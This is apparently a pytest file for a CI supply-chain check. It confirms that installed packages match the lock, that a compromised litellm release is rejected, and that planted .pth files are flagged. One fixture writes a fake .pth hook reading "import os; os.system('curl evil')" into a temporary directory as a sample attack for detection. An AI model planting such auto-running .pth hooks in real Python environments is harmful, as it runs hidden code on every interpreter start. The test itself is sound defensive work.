"""The supply-chain check of ``.ci/run``: the lock holds, compromised litellm releases and planted
``.pth`` files fail it. Fakes are built in a temporary directory; the real environment is read only."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CHECK = ROOT / ".ci" / "supply_chain.py"


def check(*site_dirs: Path, python_path: Path | None = None) -> subprocess.CompletedProcess[str]:
    environment = {"PATH": "/usr/bin:/bin"}
    if python_path is not None:
        environment["PYTHONPATH"] = str(python_path)
    return subprocess.run([sys.executable, str(CHECK), "check", *map(str, site_dirs)], capture_output=True,
                          text=True, env=environment, timeout=120)


def fake_distribution(folder: Path, name: str, version: str, files: list[str]) -> None:
    info = folder / f"{name}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", encoding="utf-8")
    (info / "RECORD").write_text("".join(f"{file},,\n" for file in files), encoding="utf-8")


def test_the_environment_matches_the_lock() -> None:
    done = check()
    assert done.returncode == 0, done.stderr


def test_a_compromised_litellm_fails_the_check(tmp_path: Path) -> None:
    fake_distribution(tmp_path, "litellm", "1.82.8", [])
    done = check(python_path=tmp_path)
    assert done.returncode == 1 and "litellm 1.82.8 is a compromised release" in done.stderr


def test_a_requirement_at_another_version_than_the_lock_fails_the_check(tmp_path: Path) -> None:
    fake_distribution(tmp_path, "typer", "0.0.1", [])  # rt4chart requires typer, so it is in the closure
    done = check(python_path=tmp_path)
    assert done.returncode == 1 and "typer 0.0.1 is installed, the lock pins" in done.stderr


def test_a_planted_pth_file_fails_the_check(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "litellm_init.pth").write_text("import os; os.system('curl evil')\n", encoding="utf-8")
    done = check(site)
    assert done.returncode == 1 and "unexplained .pth file" in done.stderr and "litellm_init.pth" in done.stderr
    # Owned by an installed distribution does not make it explained unless the lock allows it.
    fake_distribution(tmp_path / "dists", "sneaky", "1.0", ["litellm_init.pth"])
    assert check(site, python_path=tmp_path / "dists").returncode == 1
